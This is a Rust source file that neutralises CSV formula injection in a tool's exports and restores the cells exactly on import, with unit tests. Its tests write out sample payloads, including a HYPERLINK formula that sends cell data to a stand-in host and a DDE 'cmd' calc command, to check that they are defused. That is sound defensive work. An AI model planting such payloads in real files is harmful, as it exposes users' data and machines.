//! Every CSV skm writes goes through `Writer`, so no cell reaches a spreadsheet as a formula
//! (OWASP's CSV injection rule): a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage
//! return gets a `'` in front, and is quoted. `sheets::csv` removes that `'` again when it reads
//! a file, so `skm compute` and `skm import` read skm's own exports back unchanged.
//!
//! The rule is exact both ways: `restored(&neutralised(s)) == s` for every `s`. A cell that only
//! looks neutralised (`'=x` typed by someone) gets a second `'`, so reading it back gives `'=x`.
//! Plain numbers (`-2`, `+3`, `-2.5`) are left alone: a spreadsheet reads them as the number they
//! are, and a negative count stays a number. Every other cell, names and saran included, follows
//! the rule, so a saran `- antrean lama` is written `'- antrean lama`.

use std::borrow::Cow;
use std::io::Write;

/// The first characters that make a spreadsheet read a cell as a formula (OWASP).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` as written: `'` in front when a spreadsheet would run it as a formula.
pub fn neutralised(cell: &str) -> Cow<'_, str> {
    if runs_as_formula(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// `cell` as it was before `neutralised`: the `'` that `neutralised` adds is taken off, any other
/// left alone.
pub fn restored(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if runs_as_formula(rest) => rest,
        _ => cell,
    }
}

/// Whether `neutralised` puts a `'` in front: the cell, past any `'` it already starts with,
/// starts a formula and is not a plain number. Counting the `'`s already there is what makes
/// `restored` exact: `'=x` (someone's text) is written `''=x` and read back as `'=x`.
fn runs_as_formula(cell: &str) -> bool {
    let bare = cell.trim_start_matches('\'');
    bare.starts_with(FORMULA_START) && !plain_number(bare)
}

/// `-2`, `+3`, `-2.5`: digits with a sign and at most one decimal point.
fn plain_number(text: &str) -> bool {
    let digits = text.strip_prefix(['-', '+']).unwrap_or(text);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "1"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

/// A CSV writer whose every cell goes through `neutralised`; lines end in CRLF (RFC 4180).
pub struct Writer<W: Write>(csv::Writer<W>);

impl<W: Write> Writer<W> {
    /// `delimiter` is `b','`, or `b';'` for files meant for Excel on an Indonesian Windows.
    pub fn new(out: W, delimiter: u8) -> Self {
        let writer = csv::WriterBuilder::new()
            .delimiter(delimiter)
            .terminator(csv::Terminator::CRLF)
            // The csv crate quotes a field holding its comment character: with `'` as that
            // character, the `'` of a neutralised cell always sits inside quotes, as OWASP asks.
            // Files are never read with comments, so nothing else changes.
            .comment(Some(b'\''))
            .from_writer(out);
        Writer(writer)
    }

    pub fn write_record<I, T>(&mut self, cells: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        self.0.write_record(cells.into_iter().map(|cell| neutralised(cell.as_ref()).into_owned()))
    }

    pub fn flush(&mut self) -> std::io::Result<()> {
        self.0.flush()
    }

    pub fn into_inner(self) -> std::io::Result<W> {
        self.0.into_inner().map_err(|e| e.into_error())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(cells: &[&str]) -> String {
        let mut writer = Writer::new(Vec::new(), b',');
        writer.write_record(cells).expect("write");
        String::from_utf8(writer.into_inner().expect("bytes")).expect("UTF-8")
    }

    #[test]
    fn formulas_get_an_apostrophe_and_quotes() {
        assert_eq!(
            written(&["=HYPERLINK(\"http://evil.example/?d=\"&A1,\"klik\")", "+cmd|' /C calc'!A0", "@SUM(A1)", "ok"]),
            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"klik\"\")\",\"'+cmd|' /C calc'!A0\",\"'@SUM(A1)\",ok\r\n"
        );
        assert_eq!(written(&["-2+3+cmd|x", "\tx", "\r=1", "-"]), "\"'-2+3+cmd|x\",\"'\tx\",\"'\r=1\",\"'-\"\r\n");
    }

    #[test]
    fn numbers_and_ordinary_text_are_written_as_they_are() {
        assert_eq!(
            written(&["-2", "+3", "-2.5", "4", "", "Antrean cepat", "a=b"]),
            "-2,+3,-2.5,4,,Antrean cepat,a=b\r\n"
        );
        assert_eq!(written(&["Jum'at"]), "\"Jum'at\"\r\n");
    }

    #[test]
    fn restoring_undoes_exactly_what_neutralising_did() {
        let cells = [
            "=1+2",
            "'=1+2",
            "''=1+2",
            "'",
            "''",
            "'-2",
            "-2",
            "-2.",
            "-.5",
            "--2",
            "+",
            "@",
            "\t",
            "'\r",
            "a",
            "",
            "'a",
            "-1e5",
            "- antrean lama",
            "'- antrean lama",
        ];
        for cell in cells {
            assert_eq!(restored(&neutralised(cell)), cell, "{cell:?}");
        }
        assert_eq!(restored("'=x"), "=x");
        assert_eq!(restored("'abc"), "'abc", "an apostrophe skm did not add stays");
        assert_eq!(restored("'-2"), "'-2");
    }
}
